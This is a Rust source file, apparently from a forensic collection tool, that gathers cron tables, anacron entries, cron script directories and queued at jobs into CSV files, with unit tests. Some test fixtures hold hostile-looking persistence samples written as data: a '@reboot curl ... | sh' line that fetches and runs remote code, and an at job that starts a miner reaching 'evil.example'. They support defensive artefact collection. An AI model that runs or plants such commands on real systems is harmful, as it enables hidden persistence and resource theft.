//! Scheduled jobs: cron tables, anacron and the `cron.{hourly,daily,weekly,monthly}`
//! scripts (`cron.csv`), and queued `at` jobs (`at_jobs.csv`).

use std::io::{self, BufReader, Read};
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

use casefile_package::{ItemOutcome, ItemSink, PackageError};

use crate::Context;
use crate::collectors::accounts::UserNames;
use crate::collectors::common::{
    CANCELLED, COPY_LIMIT, Csv, Lines, Problems, csv_file, dir_entries, is_missing, mtime_utc, open_regular,
    read_capped, split_fields, table_outcome, trim_bytes, utc_timestamp,
};

const CRON_HEADER: [&str; 6] = ["source", "line_number", "user", "kind", "schedule", "command"];

/// How a cron table names the user a job runs as.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Format {
    /// `/etc/crontab`, `/etc/cron.d/*`: a user field after the schedule.
    System,
    /// A user's own table: the file is named after the user.
    User,
    /// `/etc/anacrontab`: `period delay job-id command`, run as root.
    Anacron,
}

/// Single cron tables.
const TABLES: [(&str, Format); 2] = [("/etc/crontab", Format::System), ("/etc/anacrontab", Format::Anacron)];
/// Directories of cron tables. `/var/spool/cron` holds the users' tables on Red Hat
/// systems and the `crontabs` directory on Debian ones; directories are skipped.
const TABLE_DIRS: [(&str, Format); 3] =
    [("/etc/cron.d", Format::System), ("/var/spool/cron/crontabs", Format::User), ("/var/spool/cron", Format::User)];
/// Directories of scripts run by `run-parts`, with their schedule.
const SCRIPT_DIRS: [(&str, &str); 4] = [
    ("/etc/cron.hourly", "hourly"),
    ("/etc/cron.daily", "daily"),
    ("/etc/cron.weekly", "weekly"),
    ("/etc/cron.monthly", "monthly"),
];

pub(super) fn write_cron(ctx: &Context, sink: &mut dyn ItemSink) -> Result<(), PackageError> {
    let source = "/etc/crontab, /etc/cron.d/*, /var/spool/cron/crontabs/*, /var/spool/cron/*, /etc/anacrontab, \
/etc/cron.{hourly,daily,weekly,monthly}/*";
    csv_file(sink, "cron.csv", source, &CRON_HEADER, |csv| {
        let mut problems = Problems::default();
        let mut sources = 0;
        // (name in the table, real path, format): a name that is not UTF-8 is shown
        // lossily but opened by its bytes.
        let mut tables: Vec<(String, PathBuf, Format)> =
            TABLES.iter().map(|(abs, format)| (abs.to_string(), ctx.path(abs), *format)).collect();
        for (dir, format) in TABLE_DIRS {
            for name in dir_entries(ctx, dir, &mut problems) {
                tables.push((format!("{dir}/{}", name.to_string_lossy()), ctx.path(dir).join(&name), format));
            }
        }
        for (abs, path, format) in tables {
            if ctx.cancel.is_cancelled() {
                return Ok(ItemOutcome::partial(CANCELLED));
            }
            if path.is_dir() {
                continue;
            }
            match write_table(&path, &abs, format, csv) {
                Ok(()) => sources += 1,
                Err(e) if is_missing(&e) => {}
                Err(e) => problems.add("unreadable cron tables", format!("{abs}: {e}")),
            }
        }
        for (dir, schedule) in SCRIPT_DIRS {
            for name in dir_entries(ctx, dir, &mut problems) {
                let abs = format!("{dir}/{}", name.to_string_lossy());
                csv.row([abs.as_str(), "", "root", "script", schedule, abs.as_str()])?;
                sources += 1;
            }
        }
        Ok(table_outcome(sources, problems, "no cron tables or scripts"))
    })
}

/// Streams the lines of the table at `path` (host path `abs`).
fn write_table(path: &Path, abs: &str, format: Format, csv: &mut Csv<'_>) -> io::Result<()> {
    let file = open_regular(path)?;
    let mut lines = Lines::new(BufReader::new(file.take(COPY_LIMIT)));
    let owner = abs.rsplit('/').next().unwrap_or_default();
    let mut line_number = 0u64;
    while let Some(line) = lines.next_line()? {
        line_number += 1;
        let Some(entry) = CronEntry::parse(line, format, owner) else {
            continue;
        };
        csv.row([abs, &line_number.to_string(), &entry.user, entry.kind, &entry.schedule, &entry.command])?;
    }
    Ok(())
}

/// One meaningful line of a cron table.
#[derive(Debug, PartialEq, Eq)]
struct CronEntry {
    user: String,
    /// `job`, `environment` (`MAILTO=…`, `PATH=…`: they change what jobs run), or
    /// `unparsed` (the whole line in `command`).
    kind: &'static str,
    schedule: String,
    command: String,
}

impl CronEntry {
    /// `None` for blank lines and comments.
    fn parse(line: &[u8], format: Format, owner: &str) -> Option<Self> {
        let line = trim_bytes(line);
        if line.is_empty() || line.starts_with(b"#") {
            return None;
        }
        let text = String::from_utf8_lossy(line).into_owned();
        let default_user = if format == Format::User { owner } else { "root" };
        let entry = |kind, user: &str, schedule: String, command: &[u8]| Self {
            user: user.to_owned(),
            kind,
            schedule,
            command: String::from_utf8_lossy(command).into_owned(),
        };
        if is_assignment(&text) {
            return Some(entry("environment", default_user, String::new(), line));
        }
        let unparsed = || Some(entry("unparsed", default_user, String::new(), line));
        // `@reboot`, `@daily`, … stand for the five time fields.
        let time_fields = match format {
            Format::Anacron => 3,
            _ if line.starts_with(b"@") => 1,
            _ => 5,
        };
        let user_fields = usize::from(format == Format::System);
        let Some((fields, command)) = split_fields(line, time_fields + user_fields) else {
            return unparsed();
        };
        if command.is_empty() {
            return unparsed();
        }
        let text_of = |field: &[u8]| String::from_utf8_lossy(field).into_owned();
        let schedule = if format == Format::Anacron {
            format!("period={} delay={} id={}", text_of(fields[0]), text_of(fields[1]), text_of(fields[2]))
        } else {
            fields[..time_fields].iter().map(|f| text_of(f)).collect::<Vec<_>>().join(" ")
        };
        let user = if user_fields == 1 { text_of(fields[time_fields]) } else { default_user.to_owned() };
        Some(entry("job", &user, schedule, command))
    }
}

/// `NAME=value` (spaces allowed around `=`), as cron and anacron read them.
fn is_assignment(line: &str) -> bool {
    let Some((name, _)) = line.split_once('=') else {
        return false;
    };
    let name = name.trim_end();
    let mut chars = name.chars();
    chars.next().is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
        && chars.all(|c| c.is_ascii_alphanumeric() || c == '_')
}

// ---------------------------------------------------------------------------------------
// at jobs

const AT_HEADER: [&str; 8] = ["path", "queue", "job_number", "scheduled_utc", "uid", "user", "mtime_utc", "command"];
/// Debian's and Red Hat's spools.
const AT_SPOOLS: [&str; 2] = ["/var/spool/cron/atjobs", "/var/spool/at"];
/// An at job is a shell script with the whole environment of the user who queued it.
const AT_JOB_LIMIT: u64 = 256 * 1024;

pub(super) fn write_at_jobs(ctx: &Context, sink: &mut dyn ItemSink) -> Result<(), PackageError> {
    let users = UserNames::load(ctx);
    csv_file(sink, "at_jobs.csv", "/var/spool/cron/atjobs/*, /var/spool/at/*", &AT_HEADER, |csv| {
        let mut problems = Problems::default();
        let mut spools = 0;
        for spool in AT_SPOOLS {
            if !ctx.path(spool).is_dir() {
                continue;
            }
            spools += 1;
            for name in dir_entries(ctx, spool, &mut problems) {
                let path = ctx.path(spool).join(&name);
                let name = name.to_string_lossy();
                let abs = format!("{spool}/{name}");
                // `.SEQ` numbers the jobs; `spool` holds the output of running ones.
                if name.starts_with('.') || path.is_dir() {
                    continue;
                }
                match AtJob::read(&path, &name, &users) {
                    Ok(job) => csv.row(job.fields(abs))?,
                    Err(e) => problems.add("unreadable at jobs", format!("{abs}: {e}")),
                }
            }
        }
        Ok(table_outcome(spools, problems, "no at spool"))
    })
}

struct AtJob {
    queue: String,
    job_number: String,
    scheduled: String,
    uid: u32,
    user: String,
    mtime: String,
    command: String,
}

impl AtJob {
    fn read(path: &Path, name: &str, users: &UserNames) -> io::Result<Self> {
        let meta = open_regular(path)?.metadata()?;
        let script = read_capped(path, AT_JOB_LIMIT)?;
        let (queue, job_number, scheduled) = parse_job_name(name).unwrap_or_default();
        let uid = script_uid(&script).unwrap_or(meta.uid());
        Ok(Self {
            queue,
            job_number,
            scheduled,
            uid,
            user: users.name(uid).to_owned(),
            mtime: mtime_utc(&meta),
            command: job_command(&script),
        })
    }

    fn fields(self, abs: String) -> [String; 8] {
        [abs, self.queue, self.job_number, self.scheduled, self.uid.to_string(), self.user, self.mtime, self.command]
    }
}

/// `a0001a01a8e3c4`: queue letter, job number (5 hex digits), and the run time in
/// minutes since the epoch (8 hex digits).
fn parse_job_name(name: &str) -> Option<(String, String, String)> {
    if name.len() != 14 || !name.is_ascii() {
        return None;
    }
    let queue = name[..1].to_owned();
    let number = u32::from_str_radix(&name[1..6], 16).ok()?;
    let minutes = i64::from_str_radix(&name[6..], 16).ok()?;
    Some((queue, number.to_string(), utc_timestamp(minutes * 60)))
}

/// `# atrun uid=1000 gid=1000` near the top of the script.
fn script_uid(script: &[u8]) -> Option<u32> {
    script.split(|&b| b == b'\n').take(5).find_map(|line| {
        let rest = std::str::from_utf8(line).ok()?.strip_prefix("# atrun uid=")?;
        rest.split_whitespace().next()?.parse().ok()
    })
}

/// The commands of a job: what follows the `cd <dir> || { … }` block at writes after
/// the environment. A script without that block is kept whole.
fn job_command(script: &[u8]) -> String {
    let text = String::from_utf8_lossy(script);
    let mut lines = text.lines();
    let found_cd = lines.by_ref().any(|line| line.starts_with("cd ") && line.trim_end().ends_with("|| {"));
    if found_cd && lines.by_ref().any(|line| line.trim() == "}") {
        return lines.collect::<Vec<_>>().join("\n").trim().to_owned();
    }
    text.trim().to_owned()
}

#[cfg(test)]
mod tests {
    use std::os::unix::ffi::OsStrExt;

    use casefile_package::ItemStatus;

    use crate::collectors::persistence::Persistence;
    use crate::collectors::test_support::{Fixture, PASSWD_FIXTURE, find_row, run};

    use super::*;

    fn parse(line: &str, format: Format) -> Option<CronEntry> {
        CronEntry::parse(line.as_bytes(), format, "alice")
    }

    #[test]
    fn cron_lines_of_each_format() {
        let job = parse("*/5 * * * * root  /usr/bin/backup --all > /dev/null 2>&1", Format::System).unwrap();
        assert_eq!(
            job,
            CronEntry {
                user: "root".into(),
                kind: "job",
                schedule: "*/5 * * * *".into(),
                command: "/usr/bin/backup --all > /dev/null 2>&1".into()
            }
        );
        let reboot = parse("@reboot curl -s http://x | sh", Format::User).unwrap();
        assert_eq!((reboot.user.as_str(), reboot.schedule.as_str()), ("alice", "@reboot"));
        assert_eq!(reboot.command, "curl -s http://x | sh");
        let reboot_system = parse("@reboot root /opt/x", Format::System).unwrap();
        assert_eq!((reboot_system.user.as_str(), reboot_system.command.as_str()), ("root", "/opt/x"));
        let anacron = parse("7\t10\tcron.weekly\trun-parts --report /etc/cron.weekly", Format::Anacron).unwrap();
        assert_eq!(anacron.schedule, "period=7 delay=10 id=cron.weekly");
        assert_eq!(anacron.user, "root");
        let env = parse("PATH = /tmp:/usr/bin", Format::System).unwrap();
        assert_eq!((env.kind, env.command.as_str()), ("environment", "PATH = /tmp:/usr/bin"));
        assert_eq!(parse("  # comment", Format::User), None);
        assert_eq!(parse("", Format::User), None);
        assert_eq!(parse("* * * *", Format::User).unwrap().kind, "unparsed");
        assert_eq!(parse("* * * * * root", Format::System).unwrap().kind, "unparsed");
    }

    #[test]
    fn every_cron_source_is_listed() {
        let f = Fixture::new();
        f.write("/etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
        f.write("/etc/cron.d/evil,\"x\"", "* * * * * root /tmp/.x\n");
        let odd = f.path("/etc/cron.d").join(std::ffi::OsStr::from_bytes(b"zz\xff"));
        std::fs::write(odd, "@daily nobody /bin/odd\n").unwrap();
        f.write("/var/spool/cron/crontabs/alice", "# DO NOT EDIT\n0 3 * * * /home/alice/sync.sh\n");
        f.write("/var/spool/cron/bob", "@hourly /usr/bin/true\n");
        f.write("/etc/cron.daily/logrotate", "#!/bin/sh\n");
        f.fifo("/etc/cron.d/fifo");
        let sink = run(&Persistence, f.root());
        let item = sink.item("cron.csv");
        assert_eq!(item.status(), ItemStatus::Partial, "the FIFO is not read");
        assert!(item.outcome.error.as_ref().unwrap().contains("/etc/cron.d/fifo: not a regular file"));
        let rows = item.rows();
        let summary: Vec<[&str; 5]> = rows
            .iter()
            .map(|r| [&r["source"], &r["line_number"], &r["user"], &r["kind"], &r["command"]].map(String::as_str))
            .collect();
        assert_eq!(
            summary,
            [
                ["/etc/crontab", "1", "root", "environment", "SHELL=/bin/sh"],
                ["/etc/crontab", "2", "root", "job", "cd / && run-parts --report /etc/cron.hourly"],
                ["/etc/cron.d/evil,\"x\"", "1", "root", "job", "/tmp/.x"],
                ["/etc/cron.d/zz\u{fffd}", "1", "nobody", "job", "/bin/odd"],
                ["/var/spool/cron/crontabs/alice", "2", "alice", "job", "/home/alice/sync.sh"],
                ["/var/spool/cron/bob", "1", "bob", "job", "/usr/bin/true"],
                ["/etc/cron.daily/logrotate", "", "root", "script", "/etc/cron.daily/logrotate"],
            ]
        );
        assert_eq!(find_row(&rows, "source", "/etc/cron.daily/logrotate")["schedule"], "daily");
    }

    const AT_SCRIPT: &str = "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail alice 0\numask 22\n\
HOME=/home/alice; export HOME\ncd /home/alice || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n\
nohup /tmp/.x/miner --pool evil.example &\n";

    #[test]
    fn at_jobs_give_queue_time_owner_and_command() {
        let f = Fixture::new();
        f.write("/etc/passwd", PASSWD_FIXTURE);
        // Job 26 in queue a, due at minute 0x01a8e3c4 after the epoch.
        f.write("/var/spool/cron/atjobs/a0001a01a8e3c4", AT_SCRIPT);
        f.write("/var/spool/cron/atjobs/.SEQ", "1a\n");
        f.mkdir("/var/spool/cron/atjobs/spool");
        f.write("/var/spool/cron/atjobs/odd-name", "echo hi\n");
        let sink = run(&Persistence, f.root());
        let item = sink.item("at_jobs.csv");
        assert_eq!(item.status(), ItemStatus::Ok, "{:?}", item.outcome);
        let rows = item.rows();
        assert_eq!(rows.len(), 2);
        let job = find_row(&rows, "path", "/var/spool/cron/atjobs/a0001a01a8e3c4");
        assert_eq!(job["queue"], "a");
        assert_eq!(job["job_number"], "26");
        assert_eq!(job["scheduled_utc"], utc_timestamp(0x01a8e3c4 * 60));
        assert_eq!(job["uid"], "1000");
        assert_eq!(job["user"], "alice");
        assert_eq!(job["command"], "nohup /tmp/.x/miner --pool evil.example &");
        let odd = find_row(&rows, "path", "/var/spool/cron/atjobs/odd-name");
        assert_eq!((odd["queue"].as_str(), odd["command"].as_str()), ("", "echo hi"));
        // No cron sources in this fixture.
        assert_eq!(sink.item("cron.csv").status(), ItemStatus::NotApplicable);
    }

    #[test]
    fn no_at_spool_is_not_applicable() {
        let sink = run(&Persistence, Fixture::new().root());
        assert_eq!(sink.item("at_jobs.csv").status(), ItemStatus::NotApplicable);
    }
}
